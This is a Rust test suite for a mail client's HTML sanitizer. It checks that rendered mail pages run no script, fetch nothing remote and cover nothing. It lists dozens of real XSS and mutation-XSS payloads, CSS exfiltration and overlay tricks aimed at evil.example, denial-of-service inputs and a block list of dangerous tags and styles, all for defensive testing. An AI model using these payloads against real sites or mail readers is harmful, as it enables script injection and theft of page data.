//! Hostile HTML: whatever a mail holds, its page runs, fetches and covers nothing, within bounds.

use mail::{
    MailPage, PageAddresses, RemotePictures, TextSegment, mail_page, remote_picture, text_blocks,
};
use proptest::prelude::*;

use crate::attacks::in_time;

const ADDRESSES: PageAddresses<'_> =
    PageAddresses { pictures: "/m/pictures", remote: RemotePictures::Shown };

fn mail(html: &str) -> Vec<u8> {
    format!("From: a@x.example\nContent-Type: text/html; charset=utf-8\n\n{html}").into_bytes()
}

fn page(html: &str) -> Option<MailPage> {
    mail_page(&mail(html), &ADDRESSES)
}

/// Shapes of known attacks on what cleans HTML: scripts, mutation, CSS that tells or covers.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert('1');\">",
    "<img src=`javascript:alert(1)`>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"java\u{0}script:alert(1)\">x</a>",
    "<a href=\" \u{e} javascript:alert(1)\">x</a>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<style>*{x:'</style><img src=x onerror=alert(1)>'}</style>",
    "<title></title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"><embed src=x>",
    "<form action=https://evil.example/f><input autofocus onfocus=alert(1)><button formaction=x>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\" target=_top><a href=x>x</a>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>@im\\port 'https://evil.example/x.css';</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<style>a[href*=token]{background:url(https://evil.example/a)}</style>",
    "<style>p{behavior:url(https://evil.example/x.htc)}</style>",
    "<style>p{width:expression(alert(1))}</style>",
    "<style>p{-moz-binding:url(https://evil.example/x)}</style>",
    "<style>:root{--x:url(https://evil.example)}p{background:var(--x)}</style>",
    "<style>p::before{content:url(https://evil.example/x)}</style>",
    "<style>p{cursor:url(https://evil.example/x),auto;list-style-image:url(https://evil.example)}</style>",
    "<style>p{background:image-set('https://evil.example/x' 1x)}</style>",
    "<style>p{background:u\\72l(https://evil.example/x)}</style>",
    "<div style=\"position:fixed;inset:0;z-index:99999;background:#fff\">x</div>",
    "<div style=\"margin-top:-2000px\">x</div>",
    "<div style=\"background:url(&quot;https://evil.example/x&quot;)\">x</div>",
    "<div style=\"background-image:url('javascript:alert(1)')\">x</div>",
    "<table background=\"javascript:alert(1)\"><tr><td>x",
    "<body background=\"javascript:alert(1)\" onload=alert(1)>x",
    "<video poster=https://evil.example/p><source srcset=https://evil.example/s></video>",
    "<picture><source srcset=https://evil.example/s><img srcset=https://evil.example/t></picture>",
    "<input type=image src=https://evil.example/i>",
    "<a href=https://x.example ping=https://evil.example/p target=_top>x</a>",
    "<div id=mailroom-x class=mailroom-goes>goes to bank.example</div>",
    "<style>.mailroom-goes{display:none!important}</style>",
    "<p lang=\"\\\"><img src=x onerror=alert(1)>\">x</p>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><?import namespace=x implementation=https://evil.example?>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<a style=\"-webkit-user-modify:read-write\" onfocus=alert(1) autofocus contenteditable>x</a>",
];

/// What the head of every page has in it.
const OUR_HEAD: [&str; 3] = [
    "meta charset=\"utf-8\"",
    "meta name=\"referrer\" content=\"no-referrer\"",
    "meta http-equiv=\"x-dns-prefetch-control\" content=\"off\"",
];

/// What no page of a mail has in it, but for the text that is shown.
fn harmless(page: &MailPage) -> Result<(), String> {
    let mut rest = page.html.as_str();
    let mut sheets = String::new();
    while let Some((_, tag)) = rest.split_once('<') {
        let end = end_of_tag(tag);
        let (inside, after) = tag.split_at(end);
        rest = after;
        let inside = inside.to_ascii_lowercase();
        if inside == "style" {
            let (sheet, after) = after.split_once("</style>").ok_or("a sheet without an end")?;
            sheets.push_str(sheet);
            rest = after;
            continue;
        }
        if inside.starts_with("!doctype") || OUR_HEAD.contains(&inside.as_str()) {
            continue;
        }
        let (outside_values, values) = values(&inside);
        for bad in
            ["on", "srcset", "action", "formaction", "ping", "poster", "background", "http-equiv"]
        {
            if outside_values.iter().skip(1).any(|name| match bad {
                "on" => name.starts_with("on"),
                bad => name == bad,
            }) {
                return Err(format!("{bad} in <{inside}>"));
            }
        }
        let name = outside_values.first().cloned().unwrap_or_default();
        let name = name.trim_start_matches('/');
        for bad in [
            "script", "meta", "iframe", "object", "embed", "form", "input", "link", "base", "svg",
            "math", "template", "video", "noscript",
        ] {
            if name == bad {
                return Err(format!("<{inside}>"));
            }
        }
        for (name, value) in values {
            let fits = match name.as_str() {
                "src" => value.starts_with("/m/pictures/"),
                "href" => ["http://", "https://", "mailto:", "tel:", "#"]
                    .iter()
                    .any(|start| value.starts_with(start)),
                "style" => is_harmless_style(&value),
                "class" => !value.contains("mailroom-") || is_ours(&value),
                "id" => !value.contains("mailroom-"),
                "target" => value == "_blank",
                _ => true,
            };
            if !fits {
                return Err(format!("{name}={value}"));
            }
        }
    }
    let (_, own) = sheets.split_once("outline-offset:-1px}").ok_or("our own sheet")?;
    match is_harmless_style(own) && !own.contains('<') && !own.contains("mailroom-") {
        true => Ok(()),
        false => Err(format!("sheet {own}")),
    }
}

fn is_ours(class: &str) -> bool {
    class.split(' ').filter(|class| class.contains("mailroom-")).all(|class| {
        let placed = class.starts_with("mailroom-picture") || class.starts_with("mailroom-space");
        placed || matches!(class, "mailroom-goes" | "mailroom-holds" | "mailroom-quoted")
    })
}

fn is_harmless_style(style: &str) -> bool {
    let bad = [
        "@import",
        "@font-face",
        "expression",
        "position:",
        "behavior",
        "binding",
        "var(",
        "\\",
        "content:",
        "z-index",
        "javascript",
        "image-set",
    ];
    let named = style.split("url(").skip(1).all(|rest| rest.starts_with("'/m/pictures/"));
    named && !bad.iter().any(|bad| style.contains(bad))
}

fn end_of_tag(tag: &str) -> usize {
    let mut quoted = false;
    let end = tag.find(|c: char| {
        quoted ^= c == '"';
        c == '>' && !quoted
    });
    end.unwrap_or(tag.len())
}

/// The names in a tag, and those with a value.
fn values(tag: &str) -> (Vec<String>, Vec<(String, String)>) {
    let (mut names, mut values) = (Vec::new(), Vec::new());
    let mut pieces = tag.split('"');
    while let Some(outside) = pieces.next() {
        let words: Vec<&str> = outside.split_whitespace().collect();
        names.extend(words.iter().map(|word| word.trim_end_matches('=').to_owned()));
        if let (Some(name), Some(value)) = (words.last(), pieces.next()) {
            values.push((name.trim_end_matches('=').to_owned(), value.to_owned()));
        }
    }
    (names, values)
}

#[test]
fn known_attacks_leave_nothing_that_acts() {
    for attack in ATTACKS {
        for html in [
            (*attack).to_owned(),
            format!("<p>x</p>{attack}<p>y</p>"),
            format!("<table><tr><td>{attack}"),
            format!("<div><style>p{{color:red}}</style>{attack}{attack}</div>"),
            format!("<blockquote type=cite>{attack}</blockquote>"),
        ] {
            let page = page(&html).expect("a page");
            if let Err(error) = harmless(&page) {
                panic!("{html}\n{error}\n{}", page.html);
            }
        }
    }
}

#[test]
fn pages_of_hostile_sizes_take_little_time() {
    for html in [
        "<div>".repeat(400_000),
        "<table><tr><td>".repeat(100_000),
        "<b><i><font>".repeat(100_000),
        "<a href=https://x.example>".repeat(19_000),
        format!("<a href=https://x.example>{}</a>", "y.example ".repeat(150_000))
            + &"<a href=https://x.example>z</a>".repeat(2_000),
        "<blockquote>x".repeat(19_000),
        "<blockquote>".repeat(150) + &"On 6 May 2024 Ann wrote:<br>".repeat(10_000),
        format!(
            "<p>x</p>{}",
            "<p>On 6 May 2024 Ann wrote:</p><blockquote>x</blockquote>".repeat(5_000)
        ),
        format!("<div class=gmail_quote>{}", "<div class=gmail_quote>".repeat(150))
            + &"<br>x".repeat(15_000),
        "</p>".repeat(300_000),
        "<!--".repeat(300_000),
        format!("<style>{}</style>x", "a{".repeat(400_000)),
        format!("<style>{}</style>x", "p{color:red}".repeat(90_000)),
        format!("<style>{}</style>x", "@media screen{".repeat(60_000)),
        format!("<style>{}</style>x", "[".repeat(500_000)),
        format!("<style>{}</style>x", "p{background:url(".repeat(60_000)),
        format!("<style>{}</style>x", "p{width:calc(".repeat(70_000)),
        format!("<style>p{{color:{}}}</style>x", "(".repeat(500_000)),
        format!("<style>{}</style>x", "/*".repeat(500_000)),
        format!("<style>{}</style>x", "a,".repeat(500_000)),
        "<style>p{color:red}</style>".repeat(60_000),
        format!("<p style=\"{}\">x", "color:red;".repeat(1_600)).repeat(100),
        "<img src=https://x.example/a>".repeat(60_000),
        (0..30_000).map(|n| format!("<img src=https://x.example/{n}>")).collect(),
        "&#x26;".repeat(300_000),
    ] {
        let raw = mail(&html);
        if let Some(page) = in_time(|| mail_page(&raw, &ADDRESSES)) {
            harmless(&page).unwrap();
        }
    }
}

/// Pieces of HTML and CSS thrown together.
fn pageish() -> impl Strategy<Value = String> {
    let known = proptest::sample::select(
        [
            "<p>",
            "</p>",
            "<div ",
            "style=\"",
            "class='",
            "\"",
            "'",
            ">",
            "<",
            "/",
            "<table>",
            "<tr>",
            "<td>",
            "</td>",
            "<style>",
            "</style>",
            "<style ",
            "{",
            "}",
            ";",
            ":",
            "color:red",
            "url(",
            ")",
            "https://evil.example/",
            "@media ",
            "screen",
            "(max-width:600px)",
            "@import ",
            "expression(",
            "\\",
            "\\3c ",
            "<!--",
            "-->",
            "<a href=",
            "javascript:",
            "<img src=",
            " onerror=x",
            "<svg>",
            "<math>",
            "</svg>",
            "<mtext>",
            "<title>",
            "<script>",
            "</script>",
            "<blockquote type=cite>",
            "</blockquote>",
            "<div class=gmail_quote>",
            "On 6 May 2024 Ann wrote:",
            "<br>",
            "bank.com",
            "evil.com",
            "background:",
            "margin:-1px",
            "calc(",
            "<body ",
            "<html ",
            "\u{0}",
            "&lt;",
            "&#0;",
            "<details>",
            "<summary>",
            "mailroom-goes",
            "!important",
        ]
        .as_slice(),
    );
    let piece = prop_oneof![4 => known.prop_map(str::to_owned), 1 => "[ -~]{0,20}", 1 => ".{0,10}"];
    proptest::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn no_page_acts_whatever_the_mail(html in pageish()) {
        if let Some(page) = page(&html) {
            prop_assert_eq!(harmless(&page), Ok(()), "{}", page.html);
            let pages = (0..page.remote_pictures).map(|n| remote_picture(&mail(&html), n));
            for address in pages {
                let address = address.expect("every number has an address");
                prop_assert!(address.starts_with("http"), "{address}");
            }
            prop_assert_eq!(remote_picture(&mail(&html), page.remote_pictures), None);
        }
    }

    #[test]
    fn the_segments_of_a_text_are_the_text(text in "([a-z@.:/()<>\"' \n>]|https?://|www\\.|mailto:|tel:|ü){0,80}") {
        let mut whole = String::new();
        for block in text_blocks(&text) {
            for segment in block.segments {
                match segment {
                    TextSegment::Words(words) => whole.push_str(words),
                    TextSegment::Link { text, href } => {
                        whole.push_str(text);
                        let schemes = ["http://", "https://", "mailto:", "tel:"];
                        prop_assert!(schemes.iter().any(|scheme| href.starts_with(scheme)), "{href}");
                    }
                }
            }
        }
        prop_assert_eq!(whole, text);
    }
}
